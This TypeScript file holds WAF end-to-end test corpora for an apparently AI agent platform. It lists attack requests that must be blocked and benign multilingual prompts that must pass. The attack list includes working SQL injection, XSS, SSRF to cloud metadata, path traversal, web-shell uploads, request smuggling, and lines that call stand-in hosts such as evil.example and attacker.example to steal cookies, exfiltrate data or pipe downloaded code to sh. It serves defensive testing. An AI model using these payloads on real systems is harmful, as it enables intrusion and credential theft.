/**
 * The end-to-end corpora of the WAF: attacks that must be refused and realistic requests of the agent
 * platform's API that must pass. Every entry says why it is here. Independent of the rule patterns:
 * written from the attack classes of the guide and from what API clients really send.
 */
import type { CorpusEntry } from './client';

const JWT = 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImZhY3RvcnktMjAyNiJ9.eyJzdWIiOiJ1c2VyXzQyIiwic2NvcGUiOiJhZ2VudHM6d3JpdGUgcnVuczpyZWFkIiwiZXhwIjoxOTAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtbm90LXJlYWxseS1hLXNpZ25hdHVyZQ';
const auth = { Authorization: `Bearer ${JWT}` };

/** A small but real PDF with a binary stream (bytes 0x80-0xff, NUL, CR/LF inside). */
export function samplePdf(): Buffer {
  const bin = Buffer.alloc(512);
  let x = 2463534242;
  for (let i = 0; i < bin.length; i++) { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; bin[i] = (x >>> 0) & 0xff; }
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 512 /Filter /FlateDecode >>\nstream\n', 'latin1'),
    bin,
    Buffer.from('\nendstream\nendobj\nxref\n0 5\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n', 'latin1'),
  ]);
}

const CSV = 'name,email,role,notes\n"O\'Brien, Siobhán",siobhan@example.ie,admin,"Select the best runs; drop the rest"\nJosé Müller,jose@example.de,viewer,"1 or 2 agents, not more"\n李雷,li.lei@example.cn,editor,Union rep\n';

const JWT2 = 'eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c3JfOGYzYSIsIm9yZyI6Im9yZ18xMjMiLCJzY29wZSI6InJ1bnM6d3JpdGUgZmlsZXM6d3JpdGUiLCJpYXQiOjE3NjcyMjU2MDB9.MEUCIQDx9r2Qz7kq0pW1c3Xy4Zx0a1b2c3d4e5f6g7h8i9j0kAIgS2l0dGVuLWNhdHMtYXJlLWN1dGUtYnV0LW5vdC1zaWduYXR1cmVz';
const bearer = { Authorization: `Bearer ${JWT2}` };
const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const up = (filename: string, contentType: string, content: string | Buffer, fields?: Record<string, string>): CorpusEntry['form'] =>
  ({ fields, files: [{ field: 'file', filename, contentType, content }] });
const prompt = (p: string, extra: Record<string, unknown> = {}) => ({ agent_id: 'agt_01J9Z3', model: 'factory-large', prompt: p, ...extra });

/**
 * The independent hold-out corpus (written without reading the rule table, then added here): public WAF
 * test-suite and OWASP cheat-sheet payloads in every request location, and what users of an AI agent
 * platform send (prompts in several languages with SQL, shell and code in markdown, uploads with
 * non-ASCII names).
 */
const INDEPENDENT_ATTACKS: CorpusEntry[] = [
  // SQL injection: boolean, time, union, error, stacked, out-of-band, NoSQL, in every location
  { category: 'sqli', name: 'boolean OR 1=1 with comment on a numeric id', why: 'Boolean-based probe without quotes, as sqlmap sends it', path: '/api/items?id=5%20OR%201%3D1--' },
  { category: 'sqli', name: 'WAITFOR DELAY in a form body', why: 'MSSQL time-based blind injection', method: 'POST', path: '/api/auth/login', headers: form, body: "username=admin'%3B%20WAITFOR%20DELAY%20'0%3A0%3A5'--&password=x" },
  { category: 'sqli', name: 'pg_sleep in a JSON field', why: 'PostgreSQL time-based blind injection through an API body', method: 'POST', path: '/api/runs/search', headers: bearer, json: { id: '1)) OR pg_sleep(5)--' } },
  { category: 'sqli', name: 'BENCHMARK time-based', why: 'MySQL CPU-bound timing oracle', path: '/api/items?id=1%20AND%20BENCHMARK(5000000,MD5(1))' },
  { category: 'sqli', name: 'UNION with inline comments instead of spaces', why: 'Whitespace evasion with /**/', path: '/api/items?id=1/**/UNION/**/SELECT/**/null,table_name/**/FROM/**/information_schema.tables' },
  { category: 'sqli', name: 'MySQL versioned comment UNION', why: 'Mixed case and /*!50000*/ executable comments', path: '/api/items?id=-1%20uNiOn/*!50000SeLeCt*/%201,2,3--%20-' },
  { category: 'sqli', name: 'updatexml error-based in a cookie', why: 'Error-based extraction through a cookie value', path: '/api/me', headers: { Cookie: "theme=dark; pref=1 and updatexml(1,concat(0x7e,(select user())),1)" } },
  { category: 'sqli', name: 'stacked xp_cmdshell in JSON', why: 'Stacked query reaching the OS on MSSQL', method: 'POST', path: '/api/reports', headers: bearer, json: { sort: "name; EXEC xp_cmdshell 'whoami'--" } },
  { category: 'sqli', name: 'out-of-band LOAD_FILE UNC', why: 'DNS exfiltration through a UNC path (MySQL on Windows)', path: "/api/items?id=1%20AND%20LOAD_FILE(CONCAT('%5C%5C%5C%5C',(SELECT%20password%20FROM%20users%20LIMIT%201),'.x.attacker.example%5C%5Ca'))" },
  { category: 'sqli', name: 'Oracle UTL_HTTP out-of-band', why: 'Oracle exfiltration by an HTTP request from the database', method: 'POST', path: '/api/search', headers: form, body: "q=x'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'" },
  { category: 'sqli', name: 'NoSQL operators in query brackets', why: 'PHP/Express bracket syntax turns parameters into {$ne: ...} objects', path: '/api/auth/login?username%5B%24ne%5D=admin&password%5B%24gt%5D=' },
  { category: 'sqli', name: 'NoSQL $where JavaScript', why: 'Server-side JavaScript in a MongoDB $where', method: 'POST', path: '/api/users/find', headers: bearer, json: { $where: 'sleep(5000) || this.password.match(/^a/)' } },
  { category: 'sqli', name: 'NoSQL $regex on password', why: 'Blind extraction of a password through $regex', method: 'POST', path: '/api/auth/login', json: { username: 'admin', password: { $regex: '^a.*' } } },
  { category: 'sqli', name: 'UNION in a nested JSON array', why: 'Payload deep inside an array of ids', method: 'POST', path: '/api/agents/batch', headers: bearer, json: { ids: [1, 2, '3 UNION SELECT password FROM users'] } },
  { category: 'sqli', name: 'encoded quote UNION in the path', why: 'Injection in a REST path segment', path: '/api/users/1%27%20UNION%20SELECT%201,2,3--' },
  { category: 'sqli', name: 'SLEEP in User-Agent', why: 'Headers that an app logs to a database', path: '/api/health', headers: { 'User-Agent': "Mozilla/5.0' AND SLEEP(5) AND '1'='1" } },
  { category: 'sqli', name: 'MySQL hash comment bypass', why: "admin'# ends the statement on MySQL", method: 'POST', path: '/api/auth/login', headers: form, body: 'username=admin%27%23&password=whatever' },
  { category: 'sqli', name: 'ORDER BY column probe', why: 'Column count enumeration before UNION', path: '/api/items?sort=1%20ORDER%20BY%2010--' },
  { category: 'sqli', name: 'HAVING error probe in a multipart field', why: 'Injection inside a multipart text field', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { folder: "x' HAVING 1=1--" }, files: [{ field: 'file', filename: 'a.csv', contentType: 'text/csv', content: 'a,b\n' }] } },
  // XSS
  { category: 'xss', name: 'polyglot (0xsobky)', why: 'The well-known XSS polyglot that works in many contexts', path: "/api/search?q=jaVasCript%3A%2F*-%2F*%60%2F*%5C%60%2F*'%2F*%22%2F**%2F(%2F*%20*%2FoNcliCk%3Dalert()%20)%2F%2F%250D%250A%250d%250a%2F%2F%3C%2FstYle%2F%3C%2FtitLe%2F%3C%2FteXtarEa%2F%3C%2FscRipt%2F--!%3E%3CsVg%2F%3CsVg%2FoNloAd%3Dalert()%2F%2F%3E" },
  { category: 'xss', name: 'data: URI with base64 HTML', why: 'A link to a data:text/html document running script', method: 'POST', path: '/api/notes', headers: bearer, json: { body: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' } },
  { category: 'xss', name: 'SVG animate onbegin', why: 'SVG animation event handler', path: '/api/search?q=%3Csvg%3E%3Canimate%20onbegin%3Dalert(1)%20attributeName%3Dx%20dur%3D1s%3E' },
  { category: 'xss', name: 'details ontoggle in JSON', why: 'HTML5 element firing without user action', method: 'PATCH', path: '/api/users/me', headers: bearer, json: { bio: '<details open ontoggle=alert(document.cookie)>' } },
  { category: 'xss', name: 'cookie theft script in a form body', why: 'Stored XSS exfiltrating cookies', method: 'POST', path: '/api/feedback', headers: form, body: "comment=%3Cscript%3Efetch('%2F%2Fevil.example%2F%3Fc%3D'%2Bdocument.cookie)%3C%2Fscript%3E" },
  { category: 'xss', name: 'script in User-Agent', why: 'Header later shown in an admin log viewer', path: '/api/health', headers: { 'User-Agent': '<script>alert(1)</script>' } },
  { category: 'xss', name: 'double URL-encoded script', why: 'Second decoding by the application', path: '/api/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' },
  { category: 'xss', name: 'JSON unicode-escaped script tag', why: '\\u003c escapes hide the angle brackets from a raw-body filter', method: 'POST', path: '/api/notes', headers: { ...bearer, 'Content-Type': 'application/json' }, body: '{"body":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}' },
  { category: 'xss', name: 'img onerror eval(atob) in multipart', why: 'Obfuscated payload in a multipart field', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { caption: "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>" }, files: [{ field: 'file', filename: 'a.csv', contentType: 'text/csv', content: 'a\n' }] } },
  { category: 'xss', name: 'AngularJS sandbox escape', why: 'Client-side template injection', path: "/api/search?q=%7B%7Bconstructor.constructor('alert(1)')()%7D%7D" },
  { category: 'xss', name: 'Jinja2 SSTI to os.popen', why: 'Server-side template injection reaching the OS', method: 'POST', path: '/api/templates/render', headers: bearer, json: { template: "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}" } },
  { category: 'xss', name: 'Spring EL injection', why: 'Expression language injection running a process', path: "/api/search?q=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D" },
  // Traversal
  { category: 'traversal', name: 'UTF-8 overlong dots', why: '%c0%ae is an overlong encoding of "."', path: '/api/files?name=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' },
  { category: 'traversal', name: 'Tomcat ..;/ path parameter', why: '..;/ is normalised by Tomcat but not by the proxy', path: '/api/..;/..;/manager/html' },
  { category: 'traversal', name: 'IIS %u encoding', why: '16-bit Unicode encoding of dots and slashes', path: '/api/files?name=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd' },
  { category: 'traversal', name: 'traversal to an SSH key in JSON', why: 'Traversal in an API body field', method: 'POST', path: '/api/files/read', headers: bearer, json: { path: '../../../../root/.ssh/id_rsa' } },
  { category: 'traversal', name: 'traversal in a cookie', why: 'Language cookie used as an include path', path: '/api/me', headers: { Cookie: 'lang=../../../../etc/passwd' } },
  { category: 'traversal', name: 'double-encoded traversal in the path', why: '%252f survives one decoding', path: '/api/files/..%252f..%252f..%252fetc%252fshadow' },
  { category: 'traversal', name: 'Windows absolute path', why: 'Reading the SAM database on Windows', path: '/api/files?name=C:%5Cwindows%5Csystem32%5Cconfig%5Csam' },
  // LFI / RFI / SSRF / XXE
  { category: 'lfi-rfi', name: 'expect:// wrapper', why: 'PHP expect wrapper executing a command', path: '/api/page?view=expect://id' },
  { category: 'lfi-rfi', name: 'data:// wrapper with base64 PHP', why: 'Inline PHP code through the data wrapper', path: '/api/page?view=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==' },
  { category: 'lfi-rfi', name: 'phar:// wrapper', why: 'Phar deserialisation through an uploaded file', path: '/api/page?view=phar://uploads/avatar.jpg/shell' },
  { category: 'lfi-rfi', name: 'RFI by host name', why: 'Remote include of an attacker URL ending in ?', path: '/api/page?template=https://evil.example/shell.txt%3F' },
  { category: 'lfi-rfi', name: 'log poisoning include', why: 'Including the web server log after poisoning it', path: '/api/page?view=/var/log/nginx/access.log' },
  { category: 'lfi-rfi', name: 'WEB-INF/web.xml', why: 'Java application configuration disclosure', path: '/api/page?view=WEB-INF/web.xml' },
  { category: 'lfi-rfi', name: 'SSRF to cloud metadata in JSON', why: 'Webhook URL pointing at the instance metadata service', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' } },
  { category: 'lfi-rfi', name: 'SSRF to metadata by decimal IP', why: '2852039166 is 169.254.169.254 as one integer', path: '/api/fetch?url=http://2852039166/latest/meta-data/' },
  { category: 'lfi-rfi', name: 'SSRF gopher to Redis', why: 'gopher:// speaks raw TCP to internal services', path: '/api/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL' },
  { category: 'lfi-rfi', name: 'SSRF to GCP metadata host', why: 'metadata.google.internal hands out service-account tokens', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token' } },
  // Command and code injection
  { category: 'cmdi', name: 'curl piped to sh in a form', why: 'Download-and-run chained with ;', method: 'POST', path: '/api/tools/ping', headers: form, body: 'host=8.8.8.8%3Bcurl%20http%3A%2F%2Fevil.example%2Fx%7Csh' },
  { category: 'cmdi', name: 'newline then id', why: 'A newline ends the first command', path: '/api/tools/ping?host=127.0.0.1%0aid' },
  { category: 'cmdi', name: '${IFS} space evasion', why: 'Shell variable instead of a space', path: '/api/tools/ping?host=127.0.0.1;cat${IFS}/etc/passwd' },
  { category: 'cmdi', name: 'PowerShell encoded command', why: 'Windows command injection with -enc', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: 'localhost & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' } },
  { category: 'cmdi', name: 'Python __import__ os in a query', why: 'Code injection into an eval()', path: "/api/tools/calc?expr=__import__('os').popen('id').read()" },
  { category: 'cmdi', name: 'Node child_process in JSON', why: 'Code injection into a Node eval()', method: 'POST', path: '/api/tools/calc', headers: bearer, json: { expr: "require('child_process').execSync('cat /etc/passwd').toString()" } },
  { category: 'cmdi', name: 'LDAP filter injection', why: 'Closing an LDAP filter to match every user', path: '/api/directory?uid=*)(uid=*))(%7C(uid=*' },
  { category: 'cmdi', name: 'LDAP password wildcard', why: 'admin)(&) short-circuits the password test', method: 'POST', path: '/api/auth/login', headers: form, body: 'user=admin)(%26)&pass=x' },
  { category: 'cmdi', name: 'XPath injection', why: "Tautology in an XPath query", path: "/api/xml/users?name='%20or%20'1'='1'%20or%20'a'='a" },
  { category: 'cmdi', name: 'Struts OGNL in Content-Type', why: 'CVE-2017-5638 OGNL expression in the Content-Type header', method: 'POST', path: '/api/upload', headers: { 'Content-Type': "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}" }, body: 'x' },
  { category: 'cmdi', name: 'Spring4Shell class.module', why: 'CVE-2022-22965 classLoader manipulation', method: 'POST', path: '/api/users', headers: form, body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp' },
  { category: 'cmdi', name: 'obfuscated log4shell in User-Agent', why: '${lower:j} nesting evades plain ${jndi: filters', path: '/api/health', headers: { 'User-Agent': '${${lower:j}ndi:${lower:l}dap://evil.example/a}' } },
  { category: 'cmdi', name: 'PHP object injection in a cookie', why: 'Serialized PHP object for an unserialize() gadget', path: '/api/me', headers: { Cookie: 'prefs=O:8:"Example":1:{s:4:"file";s:11:"/etc/passwd";}' } },
  // Uploads
  { category: 'upload', name: 'mixed-case .pHp5', why: 'Alternate PHP extension in mixed case', method: 'POST', path: '/api/files', headers: bearer, form: up('avatar.pHp5', 'image/png', '<?php passthru($_GET[1]);') },
  { category: 'upload', name: 'NUL byte in the file name', why: 'shell.php\\0.png is stored as shell.php', method: 'POST', path: '/api/files', headers: bearer, form: up('shell.php\u0000.png', 'image/png', '<?php system($_GET[0]); ?>') },
  { category: 'upload', name: '.phtml', why: 'PHP handler extension', method: 'POST', path: '/api/files', headers: bearer, form: up('notes.phtml', 'text/html', '<?= `id` ?>') },
  { category: 'upload', name: 'ASPX web shell', why: 'Executable upload for IIS', method: 'POST', path: '/api/files', headers: bearer, form: up('report.aspx', 'text/plain', '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe"); %>') },
  { category: 'upload', name: 'SVG with script', why: 'Stored XSS through an SVG image', method: 'POST', path: '/api/users/me/avatar', headers: bearer, form: up('avatar.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>') },
  { category: 'upload', name: 'HTML file upload', why: 'Stored XSS / phishing page on our origin', method: 'POST', path: '/api/files', headers: bearer, form: up('index.html', 'text/html', '<html><script>document.location="https://evil.example/?"+document.cookie</script></html>') },
  { category: 'upload', name: 'IIS semicolon name', why: 'shell.asp;.jpg runs as ASP on old IIS', method: 'POST', path: '/api/files', headers: bearer, form: up('shell.asp;.jpg', 'image/jpeg', '<% eval request("c") %>') },
  { category: 'upload', name: 'web.config upload', why: 'IIS configuration that enables script execution', method: 'POST', path: '/api/files', headers: bearer, form: up('web.config', 'application/xml', '<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"/></system.webServer></configuration>') },
  { category: 'upload', name: 'RTL override hides .exe', why: 'invoice<U+202E>fdp.exe displays as invoiceexe.pdf', method: 'POST', path: '/api/files', headers: bearer, form: up('invoice\u202Efdp.exe', 'application/pdf', 'MZ\u0090\u0000') },
  { category: 'upload', name: 'JSPX shell', why: 'XML-syntax JSP', method: 'POST', path: '/api/files', headers: bearer, form: up('x.jspx', 'text/xml', '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>') },
  // HTTP protocol attacks
  { category: 'protocol', name: 'space before the colon of Transfer-Encoding', why: 'TE obfuscation used for request smuggling', raw: 'POST /api/runs HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n' },
  { category: 'protocol', name: 'two different Content-Length headers', why: 'CL.CL desync', raw: 'POST /api/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nContent-Length: 11\r\n\r\nabcd' },
  { category: 'protocol', name: 'PROPFIND (WebDAV) method', why: 'Methods the API does not use', raw: 'PROPFIND /api/files HTTP/1.1\r\nHost: localhost\r\nDepth: 1\r\n\r\n' },
  { category: 'protocol', name: 'invented method', why: 'Arbitrary method names probe for verb tampering', raw: 'JEFF /api/agents HTTP/1.1\r\nHost: localhost\r\n\r\n' },
  { category: 'protocol', name: 'oversized header', why: 'A 16 KiB header probes buffer limits', path: '/api/health', headers: { 'X-Pad': 'A'.repeat(16384) } },
  { category: 'protocol', name: 'Range with many overlapping ranges', why: 'CVE-2011-3192 style range amplification', path: '/api/files/report.pdf', headers: { Range: `bytes=${Array.from({ length: 30 }, (_, i) => `${i}-`).join(',')}` } },
  { category: 'protocol', name: 'malformed multipart boundary', why: 'Multipart parser confusion (unclosed part) hides a file from the WAF', method: 'POST', path: '/api/files', headers: { 'Content-Type': 'multipart/form-data; boundary=xyz' }, body: '--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.php"\r\n\r\n<?php ?>\r\n--xyz' },
  { category: 'protocol', name: 'invalid percent encoding', why: 'URL encoding abuse (%G1) to desync decoders', path: '/api/search?q=%G1%ZZ' },
  { category: 'protocol', name: 'NUL byte in a query value', why: 'Truncation of an extension check', path: '/api/files?name=report.pdf%00.php' },
  { category: 'protocol', name: 'CRLF in a header-reflected parameter (encoded twice)', why: 'Response splitting through a double-encoded CR LF', path: '/api/auth/callback?next=%250d%250aLocation:%20https://evil.example' },
  // Scanners and probes
  { category: 'scanner', name: 'masscan', why: 'Internet-wide port scanner banner grab', path: '/', headers: { 'User-Agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' } },
  { category: 'scanner', name: 'zgrab', why: 'Censys-style banner grabber', path: '/', headers: { 'User-Agent': 'Mozilla/5.0 zgrab/0.x' } },
  { category: 'scanner', name: 'gobuster', why: 'Directory brute forcer', path: '/api/backup', headers: { 'User-Agent': 'gobuster/3.6' } },
  { category: 'scanner', name: 'WPScan', why: 'WordPress scanner', path: '/wp-login.php', headers: { 'User-Agent': 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)' } },
  { category: 'scanner', name: 'DirBuster', why: 'OWASP DirBuster brute forcer', path: '/admin/', headers: { 'User-Agent': 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)' } },
  { category: 'scanner', name: 'Nmap NSE', why: 'Nmap scripting engine HTTP probes', path: '/', headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' } },
  { category: 'scanner', name: 'feroxbuster', why: 'Recursive content discovery', path: '/api/old', headers: { 'User-Agent': 'feroxbuster/2.10.0' } },
  { category: 'scanner', name: 'probe for cloud credentials', why: 'Scanners fetch ~/.aws/credentials exposed by mistake', path: '/.aws/credentials' },
  { category: 'scanner', name: 'probe for Spring actuator env', why: 'Actuator endpoints leak configuration and secrets', path: '/actuator/env' },
  { category: 'scanner', name: 'probe for a database dump', why: 'Backup files left in the web root', path: '/backup.sql' },
  { category: 'scanner', name: 'probe for phpMyAdmin', why: 'Admin panels probed by every scanner', path: '/phpmyadmin/index.php' },
];

const CSV_FORMULAS = 'month,revenue,cost,margin\nJan,1200,800,=B2-C2\nFeb,1350,900,=B3-C3\nTotal,=SUM(B2:B3),=SUM(C2:C3),"=ROUND(D2/B2*100,1)&""%"""\n';

const INDEPENDENT_BENIGN: CorpusEntry[] = [
  // Prompts in several languages with SQL-like and code-like words
  { category: 'prompt', name: 'English: write a SQL query that selects users', why: 'The most common data question on an agent platform', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Write a SQL query that selects users who signed up in the last 30 days, joins their orders and returns the top 10 by total spend. Use a LEFT JOIN and GROUP BY.') },
  { category: 'prompt', name: 'SQL code block in a prompt', why: 'Users paste the query they want reviewed', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Can you optimise this?\n\n```sql\nSELECT u.id, u.email, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE u.created_at > NOW() - INTERVAL '30 days'\nGROUP BY u.id, u.email\nORDER BY orders DESC\nLIMIT 10;\n```") },
  { category: 'prompt', name: 'Python os.system in a code block', why: 'Users ask why their script fails', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Why does this print nothing?\n\n```python\nimport os\nimport subprocess\n\nos.system('ls -la /tmp')\nout = subprocess.run(['git', 'status'], capture_output=True, text=True)\nprint(out.stdout)\n```") },
  { category: 'prompt', name: 'Spanish prompt with eliminar/seleccionar', why: 'Spanish speakers mix SQL words into prose', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("¿Puedes eliminar las filas duplicadas y seleccionar solo los clientes de 'Madrid'? Usa DELETE con cuidado, por favor; no quiero perder datos del año pasado.") },
  { category: 'prompt', name: 'Portuguese prompt with a WHERE clause', why: 'Portuguese prose with a quoted value', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Crie uma consulta que selecione os pedidos onde o total é maior que 100 e o status é 'pago'. Depois, atualize o relatório de vendas de São Paulo.") },
  { category: 'prompt', name: 'German prompt with 1=1 as math', why: 'Mathematics and logic in prose', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Erkläre bitte, warum in der Aussagenlogik 1=1 immer wahr ist und x=x eine Tautologie ist. Lösche danach die alten Notizen über Äquivalenzrelationen.') },
  { category: 'prompt', name: 'Chinese prompt with select and union', why: 'Chinese prose mixing English SQL keywords', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('请写一个SQL查询：从orders表中select金额大于100的记录，再用union合并两个月份的结果，并按日期排序。') },
  { category: 'prompt', name: 'Arabic prompt with delete and exec', why: 'Right-to-left prose with technical words', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('اكتب دالة بايثون تحذف (delete) الملفات القديمة ثم تنفذ (exec) النسخ الاحتياطي كل ليلة.') },
  { category: 'prompt', name: '1=1 in a Python comparison question', why: 'Comparisons are ordinary programming questions', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('In Python, why is `1 == 1.0` True but `1 is 1.0` False? My teacher wrote 1=1 on the board and I got confused.') },
  { category: 'prompt', name: 'JavaScript with innerHTML and alert', why: 'Front-end questions mention alert() and innerHTML', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Is this safe?\n\n```js\nconst out = document.getElementById('out');\nout.innerHTML = marked.parse(text);\nalert('done');\n```") },
  { category: 'prompt', name: 'HTML snippet without script', why: 'Layout questions contain HTML tags', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I center this?\n\n```html\n<div class="box">\n  <p>Hello <strong>world</strong></p>\n  <img src="/logo.png" alt="logo" width="120">\n</div>\n```') },
  { category: 'prompt', name: 'bash loop in a code block', why: 'Shell snippets with quotes and semicolons', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Explain this:\n\n```bash\nfor f in *.csv; do\n  echo "$f: $(wc -l < "$f") lines"\ndone\n```') },
  { category: 'prompt', name: 'Dockerfile with apt-get && curl', why: 'DevOps prompts contain command chains', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Make this image smaller:\n\n```dockerfile\nFROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl ca-certificates && rm -rf /var/lib/apt/lists/*\nCOPY app /usr/local/bin/app\nCMD ["app", "--port", "8080"]\n```') },
  { category: 'prompt', name: 'nginx config question', why: 'Operators ask about their web server config file', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Where does Debian keep nginx.conf and how do I reload it without downtime? I edited the server block in sites-available.') },
  { category: 'prompt', name: 'exec() vs spawn() question', why: 'Node.js API names in prose', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Should I use exec() or spawn() from child_process for a long-running ffmpeg job? exec buffers the output, right?') },
  { category: 'prompt', name: 'prose with union, select committee, drop', why: 'English words that are also SQL keywords', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Summarise the union's position for the select committee, drop the appendix, and insert a note where the chair's remarks were deleted from the record.") },
  { category: 'prompt', name: 'parameterised query in Python', why: 'Secure code examples still look like SQL', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Is this safe from injection?\n\n```python\ncursor.execute("SELECT id, name FROM users WHERE email = %s AND active = %s", (email, True))\nrows = cursor.fetchall()\n```') },
  { category: 'prompt', name: 'email validation regex', why: 'Regular expressions are full of symbols', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Does ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$ accept ana+test@example.co.uk? What about "quoted"@example.com?') },
  { category: 'prompt', name: 'Windows path in prose', why: 'Users describe where files are on their machine', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('The export is at C:\\Users\\ana\\Documents\\Q3 report.xlsx; can you read the totals sheet?') },
  { category: 'prompt', name: 'relative import in TypeScript', why: 'Code pasted from a project uses ../ imports', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Why can't TypeScript resolve this?\n\n```ts\nimport { loadConfig } from '../lib/config';\nimport type { Agent } from './types';\n```") },
  { category: 'prompt', name: 'SQL with an escaped apostrophe', why: "O''Brien is how SQL escapes quotes", method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Fix my insert: INSERT INTO customers (name, city) VALUES ('O''Brien', 'Cork'); it says syntax error near Cork.") },
  { category: 'prompt', name: 'set union in math', why: 'Mathematics uses union and intersection', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('If A = {1, 2, 3} and B = {3, 4}, what are A ∪ B and A ∩ B? Show the union and the intersection step by step.') },
  { category: 'prompt', name: 'HTML entities in text', why: 'Copied web text keeps entities', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Translate: &quot;Fish &amp; Chips&quot; costs &lt; £10 &mdash; a bargain!') },
  { category: 'prompt', name: 'MDN link to Window.alert', why: 'Links to documentation mention API names', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Summarise https://developer.mozilla.org/en-US/docs/Web/API/Window/alert and tell me when to use a dialog instead.') },
  { category: 'prompt', name: 'Java snippet with Runtime', why: 'Java code in prompts', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('```java\nint cores = Runtime.getRuntime().availableProcessors();\nSystem.out.println("cores: " + cores);\n```\nHow do I size my thread pool from this?') },
  { category: 'prompt', name: 'PowerShell pipeline', why: 'Windows admins paste PowerShell', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('What does this do? `Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length -Descending`') },
  { category: 'prompt', name: 'C hello world', why: 'Preprocessor includes and printf', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('```c\n#include <stdio.h>\nint main(void) { printf("hello %s\\n", "world"); return 0; }\n```\nwhy does gcc warn?') },
  { category: 'prompt', name: 'Go exec.Command', why: 'Go code calling git', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('```go\nout, err := exec.Command("git", "rev-parse", "HEAD").Output()\nif err != nil { log.Fatal(err) }\n```\nHow do I add a timeout?') },
  { category: 'prompt', name: 'JS template literal', why: '${...} placeholders in code', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Convert to a template literal: "Hello " + user.name + ", you have " + n + " new messages" -> `Hello ${user.name}, you have ${n} new messages`') },
